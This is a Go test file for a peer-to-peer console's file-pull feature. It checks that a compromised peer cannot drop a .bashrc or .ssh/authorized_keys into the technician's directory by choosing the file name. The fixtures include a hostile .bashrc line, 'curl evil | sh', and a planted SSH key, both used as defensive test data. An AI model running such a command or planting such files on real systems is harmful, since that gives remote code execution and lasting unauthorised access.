package console_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	libp2ppeer "github.com/libp2p/go-libp2p/core/peer"

	"github.com/jumpmesh/jumpmesh/console"
	"github.com/jumpmesh/jumpmesh/mesh/catalog"
	"github.com/jumpmesh/jumpmesh/mesh/channel"
	"github.com/jumpmesh/jumpmesh/mesh/pb"
)

// TestPullRefusesARootNameThePeerChose is issue 11 #5: a compromised peer,
// asked for /etc/motd, sends a tree of its choosing (the real sender, on
// another path) named .bashrc, or a directory .ssh holding
// authorized_keys, hoping to land in the technician's existing directory
// as DIR/.bashrc or DIR/.ssh/authorized_keys. The console decides the name
// (motd) and refuses: nothing is written.
func TestPullRefusesARootNameThePeerChose(t *testing.T) {
	evil := t.TempDir()
	if err := os.WriteFile(filepath.Join(evil, ".bashrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(evil, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(evil, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA evil\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, sent := range []string{".bashrc", ".ssh"} {
		t.Run(sent, func(t *testing.T) {
			dir := t.TempDir() // the technician's existing directory
			ch := openToPatchedPeer(t, filepath.Join(evil, sent))
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			err := console.Pull(ctx, ch, "/etc/motd", dir, nil)
			if catalog.CodeOf(err) != catalog.CodeCopyBadPath {
				t.Errorf("pull answered by %s: %v; want copy_bad_path", sent, err)
			}
			if names := listDir(t, dir); len(names) != 0 {
				t.Errorf("written into the technician's directory: %v", names)
			}
		})
	}
}

// TestPullNamesTheCopyAfterThePathAskedFor: the honest case lands as
// DIR/<base name>, and the home directory (whose name only the peer knows)
// may only be pulled to a new path.
func TestPullNamesTheCopyAfterThePathAskedFor(t *testing.T) {
	for in, want := range map[string]string{
		"/var/log/nginx/": "nginx", "~/notes.txt": "notes.txt", "a/b": "b", "/a/b/..": "a", "../x": "x",
		"": "", "~": "", ".": "", "a/..": "", "..": "", "/": "",
	} {
		if got := console.RemoteBaseName(in); got != want {
			t.Errorf("RemoteBaseName(%q) = %q, want %q", in, got, want)
		}
	}
	p := newChannelPair(t)
	src := filepath.Join(t.TempDir(), "report.txt")
	writeRandom(t, src, 100, 0o644)
	dir := t.TempDir()
	if err := p.pull(t, src, dir, nil); err != nil {
		t.Fatalf("pull into a directory: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "report.txt")); err != nil {
		t.Errorf("not landed as DIR/report.txt: %v", err)
	}
	if err := console.CheckPull("~", dir); catalog.CodeOf(err) != catalog.CodeCopyBadPath {
		t.Errorf("pull of the home directory into an existing directory: %v; want copy_bad_path", err)
	}
	if err := console.CheckPull("~", filepath.Join(dir, "new")); err != nil {
		t.Errorf("pull of the home directory to a new path: %v", err)
	}
}

// openToPatchedPeer opens a pull channel to a peer that answers every pull
// by sending sendPath instead of what it was asked.
func openToPatchedPeer(t *testing.T, sendPath string) *channel.Channel {
	t.Helper()
	ph, chost := newLoopbackHost(t), newLoopbackHost(t)
	t.Cleanup(func() { _ = chost.Close(); _ = ph.Close() })
	served := make(chan struct{})
	ph.SetStreamHandler(channel.Protocol, func(st network.Stream) {
		defer close(served)
		ch, _, err := channel.Accept(st)
		if err != nil {
			return
		}
		defer ch.Close()
		if ch.Ready("s1", nil) == nil {
			_, _ = channel.SendTree(context.Background(), ch, sendPath, channel.TreeOptions{})
		}
	})
	t.Cleanup(func() { <-served })
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := chost.Connect(ctx, libp2ppeer.AddrInfo{ID: ph.ID(), Addrs: ph.Addrs()}); err != nil {
		t.Fatal(err)
	}
	ch, _, err := channel.Open(ctx, chost, ph.ID(), &pb.ChannelOpen{Kind: &pb.ChannelOpen_File{File: &pb.FileOpen{Path: "/etc/motd"}}})
	if err != nil {
		t.Fatal(err)
	}
	return ch
}
